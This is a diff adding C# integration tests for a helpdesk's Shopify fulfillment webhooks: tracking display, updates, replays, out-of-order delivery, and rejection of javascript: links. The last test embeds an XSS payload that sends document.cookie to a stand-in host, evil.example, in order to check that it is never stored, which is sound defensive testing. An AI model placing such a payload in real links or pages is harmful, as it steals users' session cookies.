@@ -193,3 +193,100 @@ public sealed class ShopifyWebhookTests : IAsyncLifetime
         Assert.Equal(200m, (await CustomerByEmailAsync("late@example.com"))!.Value.GetProperty("lifetimeValue").GetDecimal());
     }
 }
+
+public sealed class ShopifyTrackingTests : IAsyncLifetime
+{
+    private const string Secret = "shpss_0123456789abcdef0456";
+    private const string PostNord = "https://tracking.postnord.com/dk/?id=";
+    private readonly HelpdeskApp _app = new();
+    private Agent _admin = null!;
+    private long _channel;
+
+    public async Task InitializeAsync()
+    {
+        _admin = await _app.SignInAsync();
+        var response = await _admin.Http.PostAsJsonAsync("/api/channels", new { kind = "shopify", name = "Shopify", secret = Secret });
+        _channel = (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetInt64();
+    }
+
+    public async Task DisposeAsync()
+    {
+        await _admin.DisposeAsync();
+        await _app.DisposeAsync();
+    }
+
+    private async Task SendAsync(string topic, string body, string? webhookId = null) =>
+        Assert.Equal(HttpStatusCode.OK, (await _admin.Http.SendAsync(ShopifyOrderBuilder.Request(_channel, Secret, topic, body, webhookId))).StatusCode);
+
+    /// <summary>The tracking agents see on the customer's only order, as (company, number, url).</summary>
+    private async Task<List<(string?, string?, string?)>> TrackingAsync(string email)
+    {
+        var found = await _admin.Http.GetFromJsonAsync<JsonElement[]>($"/api/customers?query={Uri.EscapeDataString(email)}");
+        var customer = await _admin.Http.GetStringAsync($"/api/customers/{found![0].GetProperty("id").GetInt64()}");
+        Assert.DoesNotContain("javascript", customer, StringComparison.OrdinalIgnoreCase);
+        var order = Assert.Single(ShopifyOrderBuilder.Parse(customer).GetProperty("orders").EnumerateArray());
+        return order.GetProperty("tracking").EnumerateArray()
+            .Select(t => (t.GetProperty("company").GetString(), t.GetProperty("number").GetString(), t.GetProperty("url").GetString())).ToList();
+    }
+
+    [Fact]
+    public async Task An_order_shows_agents_the_tracking_of_its_shipped_fulfillments()
+    {
+        var order = new ShopifyOrderBuilder().Customer(2001, "track@example.com");
+        await SendAsync("orders/fulfilled", order.Shipped(
+            order.Shipment(1, "PostNord", ["00370712345678901234", "00370712345678905678"], [PostNord + "00370712345678901234", PostNord + "00370712345678905678"]),
+            order.Shipment(2, "GLS", ["GLS-CANCELLED"], ["https://gls-group.com/track/GLS-CANCELLED"], status: "cancelled"),
+            order.Shipment(3, "DHL", ["JD014600006281230704"], [])).Json);
+
+        Assert.Equal(
+        [
+            ("PostNord", "00370712345678901234", PostNord + "00370712345678901234"),
+            ("PostNord", "00370712345678905678", PostNord + "00370712345678905678"),
+            ("DHL", "JD014600006281230704", null),
+        ], await TrackingAsync("track@example.com"));
+    }
+
+    [Fact]
+    public async Task A_fulfillment_webhook_adds_its_tracking_an_update_replaces_it_and_a_replay_changes_nothing()
+    {
+        var order = new ShopifyOrderBuilder().Customer(2002, "ship@example.com");
+        await SendAsync("orders/create", order.Json);
+        Assert.Empty(await TrackingAsync("ship@example.com"));
+
+        var created = Guid.NewGuid().ToString();
+        await SendAsync("fulfillments/create", order.Shipment(11, "PostNord", ["111"], ["https://postnord.example/old/111"]).ToJsonString(), created);
+        await SendAsync("fulfillments/create", order.Shipment(12, "GLS", ["222"], ["https://gls-group.com/track/222"]).ToJsonString());
+        await SendAsync("fulfillments/update", order.Shipment(11, "PostNord", ["111"], [PostNord + "111"]).ToJsonString());
+        await SendAsync("fulfillments/create", order.Shipment(11, "PostNord", ["111"], ["https://postnord.example/old/111"]).ToJsonString(), created);
+
+        Assert.Equal([("PostNord", "111", PostNord + "111"), ("GLS", "222", "https://gls-group.com/track/222")],
+            await TrackingAsync("ship@example.com"));
+
+        await SendAsync("fulfillments/update", order.Shipment(12, "GLS", ["222"], [], status: "cancelled").ToJsonString());
+        Assert.Equal([("PostNord", "111", PostNord + "111")], await TrackingAsync("ship@example.com"));
+    }
+
+    [Fact]
+    public async Task An_older_copy_of_the_order_does_not_erase_the_tracking_a_fulfillment_brought()
+    {
+        var order = new ShopifyOrderBuilder().Customer(2003, "race@example.com");
+        await SendAsync("orders/create", order.With("financial_status", "pending").Json);
+        await SendAsync("fulfillments/create", order.Shipment(21, "DHL", ["JD0146"], ["https://www.dhl.com/dk-en/home/tracking.html?tracking-id=JD0146"]).ToJsonString());
+        // orders/paid was sent before the shipment but arrives after it, still without fulfillments.
+        await SendAsync("orders/paid", order.With("financial_status", "paid").With("updated_at", "2026-11-20T11:00:00+01:00").Json);
+
+        Assert.Equal([("DHL", "JD0146", "https://www.dhl.com/dk-en/home/tracking.html?tracking-id=JD0146")], await TrackingAsync("race@example.com"));
+    }
+
+    [Fact]
+    public async Task A_javascript_tracking_link_from_Shopify_is_never_stored()
+    {
+        var order = new ShopifyOrderBuilder().Customer(2004, "xss@example.com");
+        await SendAsync("orders/fulfilled", order.Shipped(
+            order.Shipment(31, "PostNord", ["333"], ["javascript:fetch('//evil.example/'+document.cookie)"])).Json);
+        await SendAsync("fulfillments/create", order.Shipment(32, "GLS", ["444"], ["JAVASCRIPT:alert(1)"]).ToJsonString());
+        await SendAsync("fulfillments/create", order.Shipment(33, "Evil", [], ["javascript:alert(2)"]).ToJsonString());
+
+        Assert.Equal([("PostNord", "333", null), ("GLS", "444", null)], await TrackingAsync("xss@example.com"));
+    }
+}
